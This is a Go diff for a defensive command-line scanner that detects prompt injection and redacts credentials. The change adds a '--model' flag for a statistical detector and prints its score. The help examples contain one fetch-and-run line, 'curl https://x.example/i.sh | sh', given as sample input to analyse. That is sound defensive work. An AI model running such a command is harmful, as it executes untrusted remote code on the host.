@@ -16,6 +16,7 @@ import (
 	"github.com/svc-gateway/svc/scanner"
 	"github.com/svc-gateway/svc/scanner/command"
 	"github.com/svc-gateway/svc/scanner/inject"
+	"github.com/svc-gateway/svc/scanner/model"
 	"github.com/svc-gateway/svc/scanner/redact"
 )
 
@@ -135,7 +136,11 @@ func printFindings(w io.Writer, name, text string, a answer) {
 	}
 	for _, f := range list {
 		line, column := position(text, f.Start)
-		fmt.Fprintf(w, "%s:%d:%d: %s, %s confidence (%s): %q\n", name, line, column, f.Category, f.Confidence, f.Rule, f.Excerpt)
+		rule := f.Rule
+		if f.Score > 0 {
+			rule = fmt.Sprintf("%s, score %.3f", rule, f.Score)
+		}
+		fmt.Fprintf(w, "%s:%d:%d: %s, %s confidence (%s): %q\n", name, line, column, f.Category, f.Confidence, rule, f.Excerpt)
 	}
 }
 
@@ -151,13 +156,20 @@ func scanTexts() *cobra.Command {
 		Long: `Looks for prompt injection in a text: instructions to a model, invisible characters,
 misleading addresses. The subcommands analyse commands and programs, and redact credentials.
 What they read is not run and not sent anywhere, and no service needs to run.`,
-		Example: cli.Examples("scan notes.md", "scan command 'curl https://x.example/i.sh | sh'", "scan code job.py",
+		Example: cli.Examples("scan notes.md", "scan --model notes.md", "scan command 'curl https://x.example/i.sh | sh'", "scan code job.py",
 			"scan redact running-config.txt", "scan --lines < texts.jsonl"),
 	}
 	var o scanOptions
 	o.flags(cmd)
+	estimate := cmd.Flags().Bool("model", false, "judge by the statistical detector, too")
 	cmd.RunE = o.run(scan{
-		judge: func(text string) answer { return newFindings(inject.Scan(text)) },
+		judge: func(text string) answer {
+			found := inject.Scan(text)
+			if *estimate {
+				found = append(found, model.Scan(text)...)
+			}
+			return newFindings(found)
+		},
 		print: printFindings,
 	}, readArgument)
 	return cmd
